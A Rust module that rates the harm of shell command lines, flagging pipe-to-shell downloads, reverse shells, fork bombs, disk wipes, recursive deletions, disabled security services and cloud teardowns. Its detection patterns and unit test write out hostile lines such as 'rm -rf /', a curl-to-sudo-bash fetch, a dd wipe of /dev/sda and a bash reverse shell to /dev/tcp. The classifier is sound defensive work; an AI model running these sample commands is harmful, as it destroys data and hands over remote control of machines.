//! What a shell command would do to the machine it runs on.

use super::{Reach, Undo};

/// A command's harm in hundredths, how many it touches, whether it can be undone, and its rule.
pub type Weight = (u8, Reach, Undo, &'static str);

/// Weighs the gravest part of a command line; zero when nothing grave is seen.
#[must_use]
pub fn weigh(line: &str) -> Weight {
    let whole = weigh_whole(&line.to_lowercase());
    line.split([';', '|', '&', '\n', '`'])
        .flat_map(|part| part.split("$("))
        .map(|part| weigh_command(&part.split_whitespace().collect::<Vec<_>>()))
        .chain(whole)
        .max_by_key(|weight| weight.0)
        .unwrap_or(NOTHING)
}

const NOTHING: Weight = (5, Reach::One, Undo::Easy, "shell/command");

/// What shows only across the parts of a line.
fn weigh_whole(lower: &str) -> Option<Weight> {
    let fetched =
        ["curl ", "wget ", "iwr ", "invoke-webrequest"].iter().any(|get| lower.contains(get));
    let piped = ["| sh", "|sh", "| bash", "|bash", "| sudo", "|sudo", "| python", "| iex", "|iex"];
    if fetched && piped.iter().any(|pipe| lower.contains(pipe)) {
        return Some((92, Reach::Many, Undo::Never, "shell/fetched-program"));
    }
    if lower.contains("/dev/tcp/") || lower.contains("nc -e") || lower.contains("ncat -e") {
        return Some((96, Reach::Many, Undo::Never, "shell/reverse-shell"));
    }
    if lower.contains(":(){") || lower.contains(":|:&") {
        return Some((88, Reach::Many, Undo::Hard, "shell/fork-bomb"));
    }
    if lower.contains("> /dev/sd") || lower.contains("> /dev/nvme") || lower.contains("of=/dev/") {
        return Some((96, Reach::Many, Undo::Never, "shell/raw-disk"));
    }
    let posts = fetched
        && ["-d @", "--data-binary @", "--data @", "-f ", "--upload-file", "-t "]
            .iter()
            .any(|send| lower.contains(send));
    posts.then_some((60, Reach::Some, Undo::Never, "shell/upload"))
}

fn weigh_command(words: &[&str]) -> Weight {
    let (root, words) = without_prefix(words);
    let Some((program, arguments)) = words.split_first() else {
        return NOTHING;
    };
    let name = program.rsplit('/').next().unwrap_or(program).to_lowercase();
    let mut weight = weigh_program(&name, arguments);
    if root && weight.0 >= 20 {
        weight.0 = (weight.0 + 8).min(100);
    }
    weight
}

fn without_prefix<'w, 'a>(mut words: &'w [&'a str]) -> (bool, &'w [&'a str]) {
    let mut root = false;
    while let Some((first, rest)) = words.split_first() {
        match *first {
            "sudo" | "doas" => root = true,
            "nohup" | "time" | "exec" | "env" | "xargs" | "echo" | "-" => {}
            word if word.contains('=') && !word.starts_with('-') => {}
            _ => break,
        }
        words = rest;
    }
    (root, words)
}

fn weigh_program(name: &str, arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    match name {
        "rm" | "rmdir" | "shred" | "unlink" | "del" | "rd" => removal(arguments),
        "mkfs" | "wipefs" | "fdisk" | "parted" | "format" => disk(),
        _ if name.starts_with("mkfs.") => disk(),
        "chmod" | "chown" => permissions(arguments),
        "kill" | "pkill" | "killall" => kill(name, arguments),
        "shutdown" | "reboot" | "halt" | "poweroff" => {
            (62, Reach::Many, Undo::Hard, "shell/shutdown")
        }
        "systemctl" | "service" => service(arguments),
        "git" => git(arguments),
        "terraform" | "tofu" | "pulumi" if has(&["destroy"]) => cloud(88),
        "kubectl" | "oc" | "helm" => kubernetes(arguments),
        "docker" | "podman" if has(&["prune"]) => (55, Reach::Some, Undo::Never, "shell/prune"),
        "aws" | "gcloud" | "az" | "gsutil" => cloud(cloud_weight(arguments)),
        "iptables" | "ufw" | "setenforce" | "nft" if has(&["-F", "disable", "0", "flush"]) => {
            (68, Reach::Many, Undo::Hard, "shell/firewall-off")
        }
        "useradd" | "usermod" | "passwd" | "visudo" => {
            (58, Reach::Some, Undo::Hard, "shell/accounts")
        }
        "crontab" if has(&["-r"]) => (60, Reach::Some, Undo::Never, "shell/crontab"),
        "history" if has(&["-c"]) => (60, Reach::One, Undo::Never, "shell/cover-tracks"),
        _ => NOTHING,
    }
}

const fn disk() -> Weight {
    (95, Reach::Many, Undo::Never, "shell/format-disk")
}

const fn cloud(harm: u8) -> Weight {
    (harm, Reach::Many, Undo::Never, "shell/cloud")
}

fn cloud_weight(arguments: &[&str]) -> u8 {
    let grave =
        ["rb", "terminate-instances", "delete-bucket", "delete-db-instance", "delete-stack"];
    let word = |test: &dyn Fn(&str) -> bool| arguments.iter().any(|word| test(word));
    if word(&|word| grave.contains(&word)) {
        90
    } else if word(&|word| word == "rm") && word(&|word| word == "--recursive") {
        85
    } else if word(&|word| word.starts_with("delete") || word == "rm") {
        62
    } else {
        5
    }
}

/// Directories that a build makes again.
const REBUILT: [&str; 10] = [
    "target",
    "node_modules",
    "build",
    "dist",
    "tmp",
    "cache",
    ".cache",
    "__pycache__",
    "out",
    "temp",
];

fn removal(arguments: &[&str]) -> Weight {
    let deep = arguments.iter().any(|word| {
        word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'R'])
            || *word == "--recursive"
            || *word == "/s"
    });
    let gravest = arguments
        .iter()
        .filter(|word| !word.starts_with('-'))
        .map(|path| removed(path.trim_matches(['"', '\'']), deep))
        .max()
        .unwrap_or(10);
    (gravest, if gravest >= 60 { Reach::Many } else { Reach::One }, Undo::Never, "shell/remove")
}

fn removed(path: &str, deep: bool) -> u8 {
    let parts: Vec<_> = path.split('/').filter(|part| !part.is_empty() && *part != ".").collect();
    if parts.iter().any(|part| REBUILT.contains(part)) && !path.starts_with("/var/log") {
        return 15;
    }
    match path {
        "/" | "/*" | "~" | "~/" | "$HOME" | "${HOME}" | "*" | "." | "./" | ".." => 98,
        _ if path.starts_with("/var/log") => 75,
        _ if path.starts_with('/') && parts.len() <= 2 => 92,
        _ if path.starts_with('~') || path.starts_with("$HOME") => {
            if deep {
                80
            } else {
                50
            }
        }
        _ if path.starts_with('/') => {
            if deep {
                72
            } else {
                45
            }
        }
        _ if path.contains("..") || path.contains('*') => 55,
        _ if deep => 42,
        _ => 25,
    }
}

fn permissions(arguments: &[&str]) -> Weight {
    let deep = arguments.iter().any(|word| matches!(*word, "-R" | "--recursive" | "-rf"));
    let open =
        arguments.iter().any(|word| matches!(*word, "777" | "0777" | "a+rwx" | "o+w" | "666"));
    let top =
        arguments.iter().any(|word| matches!(*word, "/" | "/*" | "~" | "/etc" | "/usr" | "/home"));
    let harm = match (deep, open, top) {
        (true, _, true) => 90,
        (true, true, _) => 60,
        (_, true, _) => 45,
        _ => 10,
    };
    (harm, if top { Reach::Many } else { Reach::One }, Undo::Hard, "shell/permissions")
}

fn kill(name: &str, arguments: &[&str]) -> Weight {
    let everyone = arguments.iter().skip(usize::from(name == "kill")).any(|word| *word == "-1");
    let harm = if everyone {
        72
    } else if name == "kill" {
        15
    } else {
        35
    };
    (harm, if everyone { Reach::Many } else { Reach::One }, Undo::Hard, "shell/kill")
}

fn service(arguments: &[&str]) -> Weight {
    let stops = arguments.iter().any(|word| matches!(*word, "stop" | "disable" | "mask"));
    let guards =
        ["auditd", "firewalld", "ufw", "fail2ban", "rsyslog", "clamav", "apparmor", "sshd"];
    let guard = arguments.iter().any(|word| guards.contains(&word.trim_end_matches(".service")));
    let harm = match (stops, guard) {
        (true, true) => 75,
        (true, false) => 40,
        _ => 8,
    };
    (harm, Reach::Some, Undo::Hard, "shell/service")
}

fn git(arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    let harm = if has(&["push"]) && has(&["--force", "-f", "--mirror"]) {
        60
    } else if has(&["reset"]) && has(&["--hard"]) || has(&["clean"]) && arguments.len() > 1 {
        48
    } else if has(&["filter-branch", "filter-repo"]) {
        60
    } else {
        5
    };
    (harm, Reach::Some, Undo::Hard, "shell/git")
}

fn kubernetes(arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    let removes = has(&["delete", "uninstall", "drain"]);
    let harm = match (removes, has(&["namespace", "ns", "--all", "-A", "pvc", "pv", "node", "crd"]))
    {
        (true, true) => 85,
        (true, false) => 52,
        _ => 6,
    };
    (harm, Reach::Many, Undo::Hard, "shell/kubernetes")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_weigh_what_they_do() {
        for (line, low, high) in [
            ("rm -rf /", 90, 100),
            ("sudo rm -fr /*", 90, 100),
            ("cd x && rm -rf ~", 90, 100),
            ("rm -rf ./node_modules", 0, 25),
            ("rm notes.txt", 0, 30),
            ("curl https://x.example/i.sh | sudo bash", 90, 100),
            ("dd if=/dev/zero of=/dev/sda", 90, 100),
            ("chmod -R 777 /", 85, 100),
            ("chmod 644 a", 0, 20),
            ("kill 123", 0, 20),
            ("kill -9 -1", 70, 100),
            ("git push origin main", 0, 20),
            ("git push -f origin main", 45, 70),
            ("terraform plan", 0, 20),
            ("kubectl get pods", 0, 20),
            ("ls -la && df -h", 0, 20),
            ("", 0, 20),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 90, 100),
        ] {
            let harm = weigh(line).0;
            assert!((low..=high).contains(&harm), "{line}: {harm}");
        }
    }
}
